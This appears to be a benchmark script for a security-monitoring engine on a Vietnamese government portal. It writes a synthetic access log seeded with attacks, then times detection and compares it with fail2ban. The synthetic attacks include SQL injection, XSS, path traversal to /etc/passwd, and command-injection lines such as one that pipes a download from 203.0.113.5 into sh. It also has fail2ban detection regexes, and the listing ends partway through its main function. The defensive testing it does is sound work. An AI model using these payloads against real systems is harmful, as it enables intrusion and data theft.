"""Security operations benchmark: throughput, memory, event-to-alert latency, fail2ban.

    .venv/bin/python bench/soc_throughput.py [--lines 1000000] [--addresses 1000000]
        [--skip-fail2ban] [--skip-memory] [--skip-latency] [--json] [--out /tmp/soc_bench]

1. Generates (seeded) a combined access log of ``--lines`` lines over one hour: a
   Vietnamese provincial portal (procedure search with diacritics, dossier tracking,
   static files, the mobile app's API calls, sign-ins, back office, crawlers such as
   coccocbot and Zalo's link preview) with about 1% attacks: injections (sqli, xss,
   traversal, command), scanners (sqlmap, nikto... user agents), 404 scans, fast
   password guessing on /dang-nhap/ and slow guessing (one try every two minutes).
   The attackers' addresses and kinds are written beside the log.
2. Throughput: the log parsed, then parsed and evaluated by an ``Engine()`` as it is on
   this checkout (request inspection, leaky buckets, and the detectors it builds from
   the settings, printed), then without the detectors; the log's own clock. Alerts are
   counted in memory (``on_fire`` counts; nothing is stored), so the figure is the
   detection path only. CPU seconds (process time) and wall seconds.
3. Memory: ``--addresses`` distinct source addresses, one ordinary request each (5% of
   them a 404), through the bucket rules, with TINHSO_SOC_MAX_KEYS at its default
   (100,000) and raised to the number of addresses; tracemalloc (allocated by the
   engine) and RSS growth, each configuration in its own process.
4. Latency: events submitted to an ``EventQueue`` in thread mode at a steady rate; for
   the events that make a rule fire, the time from ``submit`` to ``on_fire`` (p50, p99)
   and, with a throwaway SQLite database (migrated in /tmp), to the ban being in the
   middleware's decision cache (``persist_fire`` storing the alert and decision).
5. fail2ban (Debian's package, ``apt-get install fail2ban``): equivalent filters (404
   scan, injection patterns, scanner user agents, POSTs to the sign-in page), each run
   through ``fail2ban-regex`` on the same log (time, matched lines, addresses with
   enough matches), then ``fail2ban-server`` in the foreground (polling backend) with
   the four jails reading the log and banning through a dummy action.

Prints what it measures; never runs as a test. Only files under ``--out`` are written.
"""

from __future__ import annotations

import argparse
import gc
import json
import os
import random
import re
import resource
import shutil
import subprocess
import sys
import time
from collections import Counter, defaultdict
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from urllib.parse import quote

ROOT = Path(__file__).resolve().parent.parent
sys.path[:0] = [str(ROOT)]

# --- the log ------------------------------------------------------------------------------

QUERIES = [
    "Đăng ký khai sinh",
    "đăng ký kết hôn",
    "cấp đổi căn cước",
    "Giấy phép xây dựng nhà ở riêng lẻ",
    "chứng thực bản sao",
    "đăng ký thường trú",
    "xác nhận tình trạng hôn nhân",
    "cấp phiếu lý lịch tư pháp",
    "đăng ký hộ kinh doanh",
    "hỗ trợ người có công",
    "trợ cấp xã hội",
    "dang ky khai tu",
    "thu tuc dat dai",
    "Cấp giấy chứng nhận quyền sử dụng đất",
    "gia hạn giấy phép lái xe",
    "bảo hiểm y tế hộ gia đình",
]
SLUGS = [
    "dang-ky-khai-sinh",
    "dang-ky-ket-hon",
    "cap-ban-sao-trich-luc",
    "dang-ky-thuong-tru",
    "chung-thuc-ban-sao",
    "cap-giay-phep-xay-dung",
    "đăng-ký-khai-tử",
    "cấp-phiếu-lý-lịch-tư-pháp",
    "thủ-tục-hỗ-trợ-người-có-công",
]
UNITS = ["thanh dong", "hong bang", "an lao", "kien an", "ngo quyen", "le chan", "thuy nguyen"]
STATIC = [
    "/static/css/tinhso.css?v=12",
    "/static/js/app.js?v=12",
    "/static/img/logo-tinh.svg",
    "/static/fonts/NotoSerif-Regular.woff2",
    "/favicon.ico",
    "/static/js/htmx.min.js",
    "/media/van-ban/2025/quyet-dinh-766.pdf",
]
BROWSERS = [
    "Mozilla/5.0 (Linux; Android 14; SM-A546E) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) coc_coc_browser/130.0.166 Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (Linux; Android 13; Redmi Note 12) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Mobile Safari/537.36 Zalo iOS/24110201",
]
APP_UA = ["okhttp/4.12.0", "Dart/3.5 (dart:io)"]
BOTS = [
    "Mozilla/5.0 (compatible; coccocbot-web/1.0; +http://help.coccoc.com/searchengine)",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (Linux; Android 10) AppleWebKit/537.36 (KHTML, like Gecko) Zalo/24.11 (link preview)",
]
PREFIXES = [
    (14, 160, 32),
    (113, 160, 32),
    (27, 64, 16),
    (171, 224, 32),
    (116, 96, 16),
    (42, 112, 8),
]

INJECTIONS = {
    "sqli": [
        "1' OR '1'='1",
        "1 UNION SELECT username,password FROM core_user--",
        "1; DROP TABLE dossiers",
        "1 AND SLEEP(5)",
        "' AND 1=CONVERT(int,(SELECT @@version))--",
        "admin'--",
        "1) OR (1=1",
        "-1 UNION ALL SELECT NULL,table_name FROM information_schema.tables",
    ],
    "xss": [
        "<script>alert(1)</script>",
        '"><svg/onload=alert(document.domain)>',
        "<img src=x onerror=alert(1)>",
        "javascript:alert(document.cookie)",
        "<iframe src=//203.0.113.5/x>",
    ],
    "path-traversal": [
        "../../../../etc/passwd",
        "..%2f..%2f..%2fetc%2fshadow",
        "....//....//etc/hosts",
        "/proc/self/environ",
        "..\\..\\windows\\win.ini",
    ],
    "cmdi": [
        "1; cat /etc/passwd",
        "$(wget http://203.0.113.5/x.sh)",
        "127.0.0.1 | whoami",
        "`id`",
        "1 && curl http://203.0.113.5/a|sh",
    ],
}
SCAN_PATHS = [
    "/wp-login.php",
    "/wp-admin/",
    "/.env",
    "/.git/config",
    "/phpmyadmin/",
    "/admin/",
    "/backup.zip",
    "/config.php",
    "/server-status",
    "/actuator/health",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/luci",
    "/solr/admin/info/system",
    "/owa/auth/logon.aspx",
    "/.aws/credentials",
    "/xmlrpc.php",
    "/HNAP1/",
    "/boaform/admin/formLogin",
]
SCANNER_UA = [
    "sqlmap/1.8.11#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:map_codes)",
    "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
    "gobuster/3.6",
]


class LogWriter:
    """Writes combined lines; one time text per second."""

    def __init__(self, fh) -> None:
        self.fh = fh
        self._second = None
        self._text = ""
        self.lines = 0

    def write(self, t: float, ip: str, method: str, url: str, status: int, size: int, ua: str):
        second = int(t)
        if second != self._second:
            self._second = second
            self._text = (
                datetime.fromtimestamp(second, UTC).astimezone(VN).strftime("%d/%b/%Y:%H:%M:%S %z")
            )
        referer = "-" if method == "POST" or url.startswith("/static") else PORTAL
        self.fh.write(
            f'{ip} - - [{self._text}] "{method} {url} HTTP/1.1" {status} {size} "{referer}" "{ua}"\n'
        )
        self.lines += 1


VN = timezone(timedelta(hours=7))  # the log is written in Vietnam's time
PORTAL = "https://dichvucong.haiphong.gov.vn/"


def _address(rng: random.Random) -> str:
    a, b, span = rng.choice(PREFIXES)
    return f"{a}.{b + rng.randrange(span)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"


def _ordinary(rng: random.Random, ua: str) -> tuple[str, str, int, int]:
    """One ordinary request: method, URL, status, bytes."""
    r = rng.random()
    if ua in APP_UA:
        return rng.choice(
            [
                ("GET", f"/api/v1/units/?q={quote(rng.choice(UNITS))}&on=2025-08-01", 200, 812),
                ("GET", f"/api/v1/procedures/{rng.randrange(1, 62)}", 200, 2310),
                (
                    "GET",
                    f"/api/v1/dossiers/H31.05-2511{rng.randrange(10, 29)}-{rng.randrange(1, 9999):04d}",
                    200,
                    1520,
                ),
                ("POST", "/api/v1/auth/token", 200, 310),
            ]
        )
    if r < 0.30:
        url = rng.choice(STATIC)
        return "GET", url, 304 if rng.random() < 0.3 else 200, rng.randrange(800, 90_000)
    if r < 0.44:
        return (
            "GET",
            rng.choice(["/", "/thu-tuc/", "/tra-cuu-ho-so/", "/don-vi-hanh-chinh/"]),
            200,
            rng.randrange(3000, 9000),
        )
    if r < 0.60:
        q = (
            quote(rng.choice(QUERIES))
            if rng.random() < 0.7
            else quote_plus_ascii(rng.choice(QUERIES))
        )
        extra = f"&linh-vuc={rng.randrange(1, 30)}" if rng.random() < 0.3 else ""
        page = f"&trang={rng.randrange(2, 6)}" if rng.random() < 0.2 else ""
        return "GET", f"/thu-tuc/?q={q}{extra}{page}", 200, rng.randrange(2000, 12_000)
    if r < 0.70:
        return "GET", "/thu-tuc/" + quote(rng.choice(SLUGS)) + "/", 200, rng.randrange(4000, 15_000)
    if r < 0.77:
        code = f"H31.05-2511{rng.randrange(10, 29)}-{rng.randrange(1, 9999):04d}"
        cccd = f"031{rng.randrange(10**8, 10**9)}"
        return "GET", f"/tra-cuu-ho-so/?ma={code}&cccd={cccd}", 200, 2400
    if r < 0.82:
        if rng.random() < 0.5:
            return "GET", "/dang-nhap/", 200, 4667
        return "POST", "/dang-nhap/", 302 if rng.random() < 0.85 else 200, 0
    if r < 0.88:
        return rng.choice(
            [
                (
                    "GET",
                    f"/quan-tri/ho-so/?trang={rng.randrange(1, 9)}&trang-thai=dang-xu-ly",
                    200,
                    18_000,
                ),
                (
                    "GET",
                    f"/quan-tri/dau-tu/du-an/DA-2025-{rng.randrange(1, 1500):04d}/",
                    200,
                    22_000,
                ),
                ("GET", "/ca-nhan/ho-so/", 200, 6_000),
                ("POST", "/ho-so/nop/", 302, 0),
            ]
        )
    if r < 0.95:
        unit = quote(rng.choice(UNITS).replace(" ", "+"), safe="+")
        return "GET", f"/don-vi-hanh-chinh/?q={unit}&ngay=2025-08-01", 200, 3_100
    if r < 0.98:
        return (
            "GET",
            f"/tin-tuc/20{rng.randrange(15, 24)}/bai-{rng.randrange(1, 900)}.html",
            404,
            1_200,
        )
    return "GET", "/", 200, 7904


def quote_plus_ascii(text: str) -> str:
    import unicodedata

    plain = unicodedata.normalize("NFD", text.replace("đ", "d").replace("Đ", "D"))
    plain = "".join(c for c in plain if unicodedata.category(c) != "Mn")
    return quote(plain.lower()).replace("%20", "+")


def _attack_sessions(rng: random.Random, lines: int, t0: float, span: float):
    """(time, ip, method, url, status, bytes, ua) of the attacks, and address -> kind."""
    scale = lines / 1_000_000
    events, kinds = [], {}

    def new_ip():
        while True:
            ip = f"{rng.choice([45, 185, 194, 103, 5])}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}"
            if ip not in kinds:
                return ip

    def session(kind, n, rate, make):
        ip = new_ip()
        kinds[ip] = kind
        start = t0 + rng.random() * span * 0.9
        ua = rng.choice(BROWSERS)
        for i in range(n):
            events.append((start + i / rate, ip, *make(i, ua)))

    for _ in range(max(1, int(150 * scale))):  # injections in a search box or a parameter
        kind = rng.choice(list(INJECTIONS))

        def inject(i, ua, kind=kind):
            payload = quote(rng.choice(INJECTIONS[kind]), safe="")
            field = rng.choice(["q", "ma", "id", "trang"])
            return "GET", f"/thu-tuc/?{field}={payload}", rng.choice([200, 403, 400]), 900, ua

        session(kind, rng.randrange(4, 20), 0.5, inject)
    for _ in range(max(1, int(10 * scale))):  # scanners: known user agents, many 404s
        scanner = rng.choice(SCANNER_UA)
        session(
            "scanner",
            rng.randrange(200, 400),
            10,
            lambda i, ua, s=scanner: (
                "GET",
                rng.choice(SCAN_PATHS) + ("" if i % 3 else f"?id={i}"),
                404,
                150,
                s,
            ),
        )
    for _ in range(max(1, int(15 * scale))):  # 404 scans with a browser's user agent
        session(
            "scan-404",
            rng.randrange(150, 250),
            5,
            lambda i, ua: (
                "GET",
                f"/{rng.choice(['admin', 'backup', 'old', 'test', 'api'])}/{rng.randrange(10**6)}.php",
                404,
                150,
                ua,
            ),
        )
    for _ in range(max(1, int(10 * scale))):  # fast password guessing
        session(
            "brute-force",
            rng.randrange(100, 200),
            2,
            lambda i, ua: ("POST", "/dang-nhap/", 200, 4_700, ua),
        )
    for _ in range(max(1, int(10 * scale))):  # slow guessing: one try every two minutes
        session(
            "slow-brute-force", 30, 1 / 120, lambda i, ua: ("POST", "/dang-nhap/", 200, 4_700, ua)
        )
    events.sort(key=lambda e: e[0])
    return events, kinds


def generate(path: Path, *, lines: int, seed: int, start: float, span: float = 3600.0) -> dict:
    rng = random.Random(seed)
    attacks, kinds = _attack_sessions(rng, lines, start, span)
    attacks = [a for a in attacks if a[0] < start + span]
    ordinary_n = max(0, lines - len(attacks))
    clients = [(_address(rng), rng.choice(BROWSERS * 6 + APP_UA * 2 + BOTS)) for _ in range(20_000)]
    step = span / max(1, ordinary_n)
    with open(path, "w", encoding="utf-8", buffering=1 << 20) as fh:
        out = LogWriter(fh)
        k = 0
        for i in range(ordinary_n):
            t = start + i * step
            while k < len(attacks) and attacks[k][0] <= t:
                out.write(*attacks[k])
                k += 1
            ip, ua = clients[int(len(clients) * rng.random() ** 2)]
            out.write(t, ip, *_ordinary(rng, ua), ua)
        for a in attacks[k:]:
            out.write(*a)
    return {"lines": out.lines, "attack_lines": len(attacks), "attackers": kinds}


# --- Django ------------------------------------------------------------------------------


def setup_django(out: Path, *, mode: str = "inline") -> None:
    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "config.settings.local")
    os.environ["DEBUG"] = "0"
    os.environ["LOG_LEVEL"] = "ERROR"
    os.environ["TINHSO_VAR_DIR"] = str(out / "var")
    os.environ["DATABASE_URL"] = f"sqlite:///{out / 'bench.sqlite3'}"
    os.environ["TINHSO_SOC_MODE"] = mode
    import django

    django.setup()


def _load() -> str:
    return " ".join(f"{x:.2f}" for x in os.getloadavg())


def _rss_kb() -> int:
    with open("/proc/self/status") as fh:
        for line in fh:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return 0


# --- 2. throughput -----------------------------------------------------------------------


def throughput(path: Path, attackers: dict, *, with_detectors: bool) -> dict:
    from tinhso.soc.engine import Engine
    from tinhso.soc.parsing import LineParser

    fired: Counter = Counter()
    fired_ips: dict[str, set] = defaultdict(set)

    def on_fire(rule, event, evidence):
        fired[rule.name] += 1
        fired_ips[rule.name].add(event.source_ip)

    kwargs = {} if with_detectors else {"detectors": []}
    engine = Engine(on_fire=on_fire, **kwargs)
    names = [type(d).__name__ for d in getattr(engine, "detectors", ())]
    parser = LineParser("auto")
    gc.collect()
    c0, w0, l0 = time.process_time(), time.perf_counter(), _load()
    t_first = now = None
    events = 0
    with open(path, "rb") as fh:
        for raw in fh:
            event = parser.parse(raw)
            if event is None:
                continue
            events += 1
            ts = event.time.timestamp()
            t_first = ts if t_first is None else t_first
            now = ts - t_first
            engine.process(event, now=now)
    flush = getattr(engine, "flush", None)
    if flush is not None and now is not None:
        flush(now + 3600)
    cpu, wall = time.process_time() - c0, time.perf_counter() - w0
    caught = defaultdict(set)
    every = set().union(*fired_ips.values()) if fired_ips else set()
    for ip in every:
        caught[attackers.get(ip, "ordinary")].add(ip)
    kinds = Counter(attackers.values())
    return {
        "detectors": names,
        "events": events,
        "cpu_s": round(cpu, 2),
        "wall_s": round(wall, 2),
        "events_per_cpu_s": round(events / cpu),
        "events_per_wall_s": round(events / wall),
        "load_before": l0,
        "load_after": _load(),
        "fired": dict(fired),
        "addresses_caught": {k: f"{len(caught.get(k, ()))}/{n}" for k, n in sorted(kinds.items())},
        "ordinary_addresses_flagged": len(caught.get("ordinary", ())),
        "skipped": {k: v for k, v in parser.counts.items() if k != "parsed"},
    }


def parse_only(path: Path) -> dict:
    from tinhso.soc.parsing import LineParser

    parser = LineParser("auto")
    c0, w0 = time.process_time(), time.perf_counter()
    n = 0
    with open(path, "rb") as fh:
        for raw in fh:
            n += parser.parse(raw) is not None
    cpu, wall = time.process_time() - c0, time.perf_counter() - w0
    return {
        "events": n,
        "cpu_s": round(cpu, 2),
        "wall_s": round(wall, 2),
        "lines_per_cpu_s": round(n / cpu),
    }


# --- 3. memory ---------------------------------------------------------------------------


def memory_worker(addresses: int, max_keys: int, traced: bool) -> dict:
    """Run in a child process: ``addresses`` distinct sources through the bucket rules."""
    import tracemalloc

    from tinhso.soc.engine import Engine, default_rules
    from tinhso.soc.schema import Event

    rng = random.Random(7)
    when = datetime(2026, 11, 20, 8, 0, tzinfo=UTC)
    ua = BROWSERS[0]
    urls = [
        "/",
        "/thu-tuc/",
        "/thu-tuc/?q=" + quote("Đăng ký khai sinh"),
        "/static/css/tinhso.css?v=12",
    ]
    fired = Counter()
    engine = Engine(
        on_fire=lambda rule, event, evidence: fired.update([rule.name]),
        rules=default_rules(max_keys),
        detectors=[],
    )
    gc.collect()
    rss0 = _rss_kb()
    if traced:
        tracemalloc.start()
    c0 = time.process_time()
    for i in range(addresses):
        ip = f"{10 + (i >> 24) % 200}.{(i >> 16) & 255}.{(i >> 8) & 255}.{i & 255}"
        status = 404 if rng.random() < 0.05 else 200
        url = f"/khong-co/{i}" if status == 404 else urls[i & 3]
        engine.process(
            Event(
                time=when,
                source_ip=ip,
                method="GET",
                url=url,
                status=status,
                user_agent=ua,
                source="access_log",
            ),
            now=i / 1000,
        )
    cpu = time.process_time() - c0
    gc.collect()
    result = {
        "addresses": addresses,
        "max_keys": max_keys,
        "keys": {r.name: r.keys for r in engine.rules if r.keys},
        "evictions": engine.evictions,
        "cpu_s": round(cpu, 2),
    }
    if traced:
        current, peak = tracemalloc.get_traced_memory()
        result.update(traced_mb=round(current / 2**20, 1), traced_peak_mb=round(peak / 2**20, 1))
    else:
        result.update(
            rss_growth_mb=round((_rss_kb() - rss0) / 1024, 1), rss_mb=round(_rss_kb() / 1024, 1)
        )
    return result


def memory(out: Path, addresses: int) -> list[dict]:
    rows = []
    for max_keys in (100_000, addresses):
        for traced in (False, True):
            cmd = [
                sys.executable,
                __file__,
                "--_memory-worker",
                f"{addresses},{max_keys},{int(traced)}",
                "--out",
                str(out),
            ]
            done = subprocess.run(cmd, capture_output=True, text=True, check=False)
            if done.returncode:
                rows.append({"max_keys": max_keys, "error": done.stderr[-500:]})
                continue
            rows.append(json.loads(done.stdout.strip().splitlines()[-1]))
    return rows


# --- 4. latency ----------------------------------------------------------------------------


def latency(*, rate: int, seconds: float, persist: bool) -> dict:
    from tinhso.soc import engine as soc_engine
    from tinhso.soc.enforcement import DECISIONS
    from tinhso.soc.schema import Event

    if persist:
        from django.core.management import call_command

        call_command("migrate", verbosity=0, interactive=False)
    submitted: dict[int, float] = {}
    to_fire: list[float] = []
    to_decision: list[float] = []
    rng = random.Random(3)

    decided: set[str] = set()

    def on_fire(rule, event, evidence):
        t = time.perf_counter()
        start = submitted.get(id(event))
        if start is None:
            return
        to_fire.append(t - start)
        if persist and rule.decision and event.source_ip not in decided:
            soc_engine.persist_fire(rule, event, evidence)
            if DECISIONS.lookup_ip(event.source_ip) is not None:
                decided.add(event.source_ip)
                to_decision.append(time.perf_counter() - start)

    q = soc_engine.EventQueue(maxsize=100_000)
    q._engine = soc_engine.Engine(on_fire=on_fire)
    total = int(rate * seconds)
    attackers = [f"198.51.100.{i}" for i in range(1, 101)]
    ordinary = [f"14.160.{i >> 8}.{i & 255}" for i in range(5000)]
    payload = "/thu-tuc/?q=" + quote("1' OR '1'='1")
    keep = []
    depth = 0
    t0 = time.perf_counter()
    l0 = _load()
    for i in range(total):
        target = t0 + i / rate
        delay = target - time.perf_counter()
        if delay > 0:
            time.sleep(delay)
        if rng.random() < 0.05:
            ip, url = rng.choice(attackers), payload
        else:
            ip, url = rng.choice(ordinary), "/thu-tuc/?q=" + quote(rng.choice(QUERIES))
        event = Event(
            time=datetime.now(UTC),
            source_ip=ip,
            method="GET",
            url=url,
            status=200,
            user_agent=BROWSERS[0],
            source="platform",
        )
        keep.append(event)
        depth = max(depth, q.queue.qsize())
        submitted[id(event)] = time.perf_counter()
        q.submit(event)
    while q.processed + q.dropped < total and time.perf_counter() - t0 < seconds + 60:
        time.sleep(0.05)
    elapsed = time.perf_counter() - t0

    def pct(values, p):
        if not values:
            return None
        values = sorted(values)
        return round(values[min(len(values) - 1, int(p / 100 * len(values)))] * 1000, 2)

    return {
        "rate_per_s": rate,
        "events": total,
        "processed": q.processed,
        "dropped": q.dropped,
        "elapsed_s": round(elapsed, 1),
        "fires": len(to_fire),
        "detectors": [type(d).__name__ for d in getattr(q._engine, "detectors", ())],
        "max_queue_depth": depth,
        "submit_to_fire_ms": {
            "p50": pct(to_fire, 50),
            "p99": pct(to_fire, 99),
            "max": pct(to_fire, 100),
        },
        "submit_to_decision_cached_ms": (
            {"n": len(to_decision), "p50": pct(to_decision, 50), "p99": pct(to_decision, 99)}
            if persist
            else None
        ),
        "load": f"{l0} -> {_load()}",
    }


# --- 5. fail2ban ---------------------------------------------------------------------------

F2B_FILTERS = {
    # The same four things the platform's rules look at, as fail2ban would be set up on an
    # nginx log. Python regexes on the raw line (fail2ban does not decode %-escapes, so both
    # encoded and plain forms are listed).
    "tinhso-404": r'^<HOST> \S+ \S+ \[\] "[A-Z]+ [^"]*" 404 ',
    "tinhso-inject": (
        r'^<HOST> \S+ \S+ \[\] "[A-Z]+ [^"]*(?i:union(?:\+|%%20|\s)+(?:all(?:\+|%%20|\s)+)?select'
        r"|%%27(?:\+|%%20)*(?:or|and)|'(?:\+|%%20)*(?:or|and)|sleep(?:%%28|\()|%%3Cscript|<script|onerror%%3D|onload%%3D"
        r"|javascript%%3A|javascript:|\.\./|\.\.%%2F|%%2e%%2e|/etc/passwd|%%2Fetc%%2Fpasswd|/proc/self|win\.ini"
        r'|%%3B(?:\+|%%20)*(?:cat|id|wget|curl|drop)|%%24%%28|%%60|%%7C(?:\+|%%20)*whoami|information_schema)[^"]*"'
    ),
    "tinhso-scanner": r'^<HOST> \S+ \S+ \[\] "[^"]*" \d{3} \S+ "[^"]*" "[^"]*(?i:sqlmap|nikto|nmap|nuclei|gobuster|masscan|zgrab|wpscan|dirbuster)',
    "tinhso-login": r'^<HOST> \S+ \S+ \[\] "POST /dang-nhap/ [^"]*" 200 ',
}
# maxretry / findtime like the platform's buckets (capacity over the leak's time scale)
F2B_JAILS = {
    "tinhso-404": (30, 300),
    "tinhso-inject": (2, 600),
    "tinhso-scanner": (1, 600),
    "tinhso-login": (10, 600),
}
DATEPATTERN = r"^[^\[]*\[({DATE})\]"


def _child_cpu() -> float:
    r = resource.getrusage(resource.RUSAGE_CHILDREN)
    return r.ru_utime + r.ru_stime


def fail2ban(path: Path, out: Path, attackers: dict) -> dict:
    regex_bin = shutil.which("fail2ban-regex")
    if regex_bin is None:
        return {"error": "fail2ban is not installed (apt-get install fail2ban)"}
    version = subprocess.run(
        [regex_bin, "--version"], capture_output=True, text=True
    ).stdout.split()
    conf = out / "fail2ban"
    shutil.rmtree(conf, ignore_errors=True)
    (conf / "filter.d").mkdir(parents=True)
    (conf / "action.d").mkdir()
    for name, regex in F2B_FILTERS.items():
        (conf / "filter.d" / f"{name}.conf").write_text(
            f"[Definition]\nfailregex = {regex}\nignoreregex =\ndatepattern = {DATEPATTERN}\n"
        )
    result = {"version": " ".join(version[-1:]), "regex": {}}
    for name in F2B_FILTERS:
        matched_out = out / f"f2b-{name}.ips"
        c0, w0 = _child_cpu(), time.perf_counter()
        with open(matched_out, "w") as fh:
            done = subprocess.run(
                [
                    regex_bin,
                    "-o",
                    "ip",
                    "--datepattern",
                    DATEPATTERN,
                    str(path),
                    str(conf / "filter.d" / f"{name}.conf"),
                ],
                stdout=fh,
                stderr=subprocess.PIPE,
                text=True,
                check=False,
            )
        wall, cpu = time.perf_counter() - w0, _child_cpu() - c0
        with open(matched_out) as fh:
            ips = Counter(line.strip() for line in fh if line.strip())
        maxretry, _ = F2B_JAILS[name]
        enough = {ip for ip, n in ips.items() if n >= maxretry}
        result["regex"][name] = {
            "wall_s": round(wall, 1),
            "cpu_s": round(cpu, 1),
            "lines_per_cpu_s": round(LINES_DONE[0] / cpu) if cpu else None,
            "matched_lines": sum(ips.values()),
            "addresses_with_maxretry_matches": len(enough),
            "of_which_attackers": len(enough & set(attackers)),
            "returncode": done.returncode,
        }
    result["server"] = fail2ban_server(path, conf, attackers)
    return result


def fail2ban_server(path: Path, conf: Path, attackers: dict) -> dict:
    server = shutil.which("fail2ban-server")
    client = shutil.which("fail2ban-client")
    if not server or not client:
        return {"error": "fail2ban-server not found"}
    run = conf / "run"
    run.mkdir(exist_ok=True)
    banned = conf / "banned.txt"
    (conf / "action.d" / "record.conf").write_text(
        "[Definition]\nactionstart =\nactionstop =\nactioncheck =\n"
        f"actionban = echo '<name> <ip>' >> {banned}\nactionunban =\n"
    )
    (conf / "fail2ban.conf").write_text(
        f"[Definition]\nloglevel = WARNING\nlogtarget = {conf / 'fail2ban.log'}\n"
        f"socket = {run / 'f2b.sock'}\npidfile = {run / 'f2b.pid'}\n"
        f"dbfile = :memory:\n"
    )
    jails = ["[DEFAULT]\nbackend = polling\nbanaction = record\nbantime = 86400\nusedns = no\n"]
    for name, (maxretry, findtime) in F2B_JAILS.items():
        # The log's lines are up to an hour old when fail2ban reads them; fail2ban ignores
        # failures older than findtime against its clock, so findtime covers the hour.
        jails.append(
            f"[{name}]\nenabled = true\nfilter = {name}\nlogpath = {path} head\n"
            f"maxretry = {maxretry}\nfindtime = {max(findtime, 7200)}\naction = record[name={name}]\n"
        )
    (conf / "jail.local").write_text("\n".join(jails))
    (conf / "jail.conf").write_text("")
    banned.write_text("")
    c0, w0 = _child_cpu(), time.perf_counter()
    proc = subprocess.Popen(
        [
            server,
            "-f",
            "-x",
            "-c",
            str(conf),
            "-s",
            str(run / "f2b.sock"),
            "-p",
            str(run / "f2b.pid"),
        ],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.PIPE,
        text=True,
    )
    expected = {name: None for name in F2B_JAILS}
    failed = {}
    deadline = time.perf_counter() + 1800
    stable_since = None
    last = None
    try:
        while time.perf_counter() < deadline and proc.poll() is None:
            time.sleep(2)
            counts = {}
            for name in expected:
                st = subprocess.run(
                    [client, "-c", str(conf), "-s", str(run / "f2b.sock"), "status", name],
                    capture_output=True,
                    text=True,
                    check=False,
                )
                m = re.search(r"Total failed:\s+(\d+)", st.stdout)
                counts[name] = int(m[1]) if m else None
            if counts == last and all(v is not None for v in counts.values()):
                stable_since = stable_since or time.perf_counter()
                if time.perf_counter() - stable_since >= 6:
                    break
            else:
                stable_since = None
            last = counts
            failed = counts
        wall = (stable_since or time.perf_counter()) - w0
    finally:
        proc.terminate()
        try:
            proc.wait(timeout=20)
        except subprocess.TimeoutExpired:
            proc.kill()
    cpu = _child_cpu() - c0
    bans = defaultdict(set)
    for line in banned.read_text().splitlines():
        name, _, ip = line.partition(" ")
        bans[name].add(ip.strip())
    every = set().union(*bans.values()) if bans else set()
    kinds = Counter(attackers.values())
    caught = Counter(attackers.get(ip, "ordinary") for ip in every)
    return {
        "wall_s_until_all_read": round(wall, 1),
        "cpu_s": round(cpu, 1),
        "failures_counted": failed,
        "bans": {k: len(v) for k, v in bans.items()},
        "addresses_caught": {k: f"{caught.get(k, 0)}/{n}" for k, n in sorted(kinds.items())},
        "ordinary_addresses_banned": caught.get("ordinary", 0),
        "stderr_tail": (proc.stderr.read() or "")[-300:] if proc.stderr else "",
    }


LINES_DONE = [0]

# --- main --------------------------------------------------------------------------------------


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--lines", type=int, default=1_000_000)
    ap.add_argument("--addresses", type=int, default=1_000_000)
    ap.add_argument("--seed", type=int, default=2026)
    ap.add_argument("--out", default="/tmp/soc_bench")  # noqa: S108 — a scratch folder
    ap.add_argument("--rate", type=int, default=500, help="latency: events per second")
    ap.add_argument("--seconds", type=float, default=60, help="latency: how long")
    ap.add_argument("--skip-fail2ban", action="store_true")
    ap.add_argument("--skip-memory", action="store_true")
    ap.add_argument("--skip-latency", action="store_true")
    ap.add_argument("--skip-persist", action="store_true", help="latency without a database")
    ap.add_argument("--json", action="store_true", help="print one JSON object")
    ap.add_argument("--_memory-worker", dest="memory_worker", help=argparse.SUPPRESS)
    args = ap.parse_args()
    out = Path(args.out)
    out.mkdir(parents=True, exist_ok=True)
    if args.memory_worker:
        setup_django(out)
        addresses, max_keys, traced = (int(x) for x in args.memory_worker.split(","))
        print(json.dumps(memory_worker(addresses, max_keys, bool(traced))))
        return
    if args.lines < 1:
        ap.error("--lines must be positive")
    setup_django(out, mode="thread")

    report: dict = {
        "machine": f"{os.cpu_count()} cores, load average {_load()}",
        "python": sys.version.split()[0],
    }

    def show(title, value):
        if not args.json:
            print(f"\n== {title}\n{json.dumps(value, ensure_ascii=False, indent=1)}", flush=True)

    show("machine", report)
    log = out / "access.log"
    start = time.time() - 3600
    w0 = time.perf_counter()
    made = generate(log, lines=args.lines, seed=args.seed, start=start)
    LINES_DONE[0] = made["lines"]
    (out / "attackers.json").write_text(json.dumps(made["attackers"], indent=0))
    report["log"] = {
        "path": str(log),
        "lines": made["lines"],
        "attack_lines": made["attack_lines"],
        "attackers": dict(Counter(made["attackers"].values())),
        "bytes": log.stat().st_size,
        "generated_in_s": round(time.perf_counter() - w0, 1),
    }
    show("log", report["log"])
    report["parse_only"] = parse_only(log)
    show("parse only", report["parse_only"])
    report["engine_as_configured"] = throughput(log, made["attackers"], with_detectors=True)
    show(
        "parse + engine (inspection, buckets, detectors from the settings)",
        report["engine_as_configured"],
    )
